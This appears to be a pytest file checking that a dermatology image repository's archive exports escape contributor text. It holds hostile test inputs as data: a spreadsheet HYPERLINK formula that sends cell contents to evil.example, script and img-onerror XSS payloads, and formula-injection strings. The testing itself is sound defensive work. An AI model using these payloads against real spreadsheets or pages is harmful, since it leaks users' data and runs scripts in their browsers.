"""Contributors' text in an archive: formula-like cells stay text in every CSV, markup in the
Markdown files is shown, not run; JSONL and Parquet keep the original value."""

import csv
import io
import zipfile

import pyarrow.parquet as pq
import pytest

from repository.exporting.markdown import md_paragraphs, md_text
from repository.exporting.tables import cell
from repository.services.exports import export_plan, export_stream
from repository.services.moderation import image_publish
from tests.conftest import demo_rows, ingest

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NOTE = "<script>alert(1)</script> [click](http://evil.example) | *bold*\n# Heading"


# Leading tabs and carriage returns never reach a stored identifier (stripped at upload); the
# CSV rule still covers them (test_cell_guards_every_formula_start).
IDENTIFIERS = (FORMULA, "+1+2", "-3", "@SUM(A1)")


@pytest.fixture
def archive(clinician, moderator) -> zipfile.ZipFile:
    for row, identifier in zip(demo_rows(), IDENTIFIERS, strict=False):
        image = ingest(clinician, row["image_id"], lesion_identifier=identifier, source_note=NOTE)
        image_publish(image=image, moderator=moderator)
    plan = export_plan(params={})
    _name, stream, _count = export_stream(
        query=plan.query, layout=plan.layout, augment=plan.augment, seed=plan.seed
    )
    return zipfile.ZipFile(io.BytesIO(b"".join(stream)))


def _rows(archive, member) -> list[dict]:
    return list(csv.DictReader(io.StringIO(archive.read(member).decode())))


def test_a_formula_cell_is_text_in_metadata_csv_and_isic_csv(archive):
    table = _rows(archive, "metadata.csv")
    assert sorted(r["lesion_identifier"] for r in table) == sorted("'" + i for i in IDENTIFIERS)
    for row in _rows(archive, "isic_metadata.csv"):
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())


def test_jsonl_and_parquet_keep_the_original_value(archive):
    import json

    lines = [json.loads(x) for x in archive.read("metadata.jsonl").decode().splitlines()]
    assert sorted(x["lesion_identifier"] for x in lines) == sorted(IDENTIFIERS)
    table = pq.read_table(io.BytesIO(archive.read("metadata.parquet"))).to_pylist()
    assert sorted(x["lesion_identifier"] for x in table) == sorted(IDENTIFIERS)


def test_a_source_note_is_shown_as_text_in_licenses_md(archive):
    text = archive.read("LICENSES.md").decode()
    assert "<script>" not in text and "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "[click](" not in text and "\\[click\\]" in text
    assert "\n# Heading" not in text  # a line break in the note starts no heading


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cell_guards_every_formula_start(start):
    assert cell(start + "1") == "'" + start + "1"
    assert cell(-1) == "-1"  # a number is not a formula


@pytest.mark.parametrize(
    "value, expected",
    [
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("a | b", "a \\| b"),
        ("line one\n## two", "line one \\#\\# two"),
        ("dr_ade _em_", "dr_ade \\_em\\_"),
        ("`code` & ~strike~", "\\`code\\` &amp; \\~strike\\~"),
        (None, ""),
    ],
)
def test_md_text_escapes_markup(value, expected):
    assert md_text(value) == expected


def test_md_paragraphs_keeps_paragraphs_but_no_markup():
    assert (
        md_paragraphs("First *one*\n\n<b>Second</b>\n")
        == "First \\*one\\*\n\n&lt;b&gt;Second&lt;/b&gt;"
    )


def test_the_datasheet_shows_a_title_and_filters_as_text():
    from datetime import UTC, datetime

    from repository.exporting.datasheet import readme
    from repository.exporting.spec import ArchiveSpec, Tally

    spec = ArchiveSpec(
        title="<script>x</script>",
        url="http://x",
        created_at=datetime(2026, 1, 1, tzinfo=UTC),
        layout="flat",
        filters={"diagnosis": "a`b"},
        language="en",
    )
    text = readme(spec=spec, tally=Tally())
    assert text.startswith("# &lt;script&gt;x&lt;/script&gt;\n")
    assert "`" + '{"diagnosis": "a\\u0060b"}' + "`" in text


def test_the_experiment_table_keeps_formulas_as_text(client, moderator):
    """Every CSV the site writes follows the rule, the augmentation experiment's table too."""
    from django.urls import reverse

    from synthesis.models import AugmentationExperiment, SynthesisJob

    job = SynthesisJob.objects.create(
        kind=SynthesisJob.Kind.EVALUATE_AUGMENTATION, created_by=moderator
    )
    estimate = {"n": 12, "point": -0.05, "lo": -0.1, "hi": 0.01}
    report = {"metrics": {"0.25": {'=HYPERLINK("http://x")': {"auc": estimate}}}, "effects": {}}
    experiment = AugmentationExperiment.objects.create(
        job=job, task="malignancy", created_by=moderator, report={"@external": report}
    )
    response = client.get(reverse("synthesis-experiment-csv", args=[experiment.pk]))
    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
    assert row["section"] == '\'=HYPERLINK("http://x")' and row["set"] == "'@external"
    assert row["point"] == "-0.05"  # a number is not a formula
